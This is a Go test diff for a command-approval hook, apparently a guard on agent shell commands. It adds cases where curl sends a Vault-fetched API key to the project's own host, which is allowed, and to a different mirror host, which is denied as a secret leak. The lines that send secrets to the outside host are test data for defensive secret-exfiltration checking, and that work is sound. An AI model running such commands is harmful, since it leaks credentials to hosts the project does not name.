@@ -98,6 +98,11 @@ func TestHookProjectHosts(t *testing.T) {
 	d, _ := decide(`curl -H "Authorization: Bearer $SHOP_API_TOKEN" https://api.orchard-shop.dev/v1/orders`, vars)
 	assert.NotEqual(t, "deny", d)
 
+	d, _ = decide(`curl -H "X-Api-Key: $(vault kv get -field=key secret/shop)" https://api.orchard-shop.dev/v1/orders`, vars)
+	assert.NotEqual(t, "deny", d, "a stored secret to a host the project names")
+	d, _ = decide(`curl -H "X-Api-Key: $(vault kv get -field=key secret/shop)" https://mirror.orchard-sync.dev/x`, vars)
+	assert.Equal(t, "deny", d)
+
 	d, reason := decide(`curl -H "Authorization: Bearer $SHOP_API_TOKEN" https://mirror.orchard-sync.dev/x`, vars)
 	assert.Equal(t, "deny", d)
 	assert.Contains(t, reason, "secrets.variable-sent")
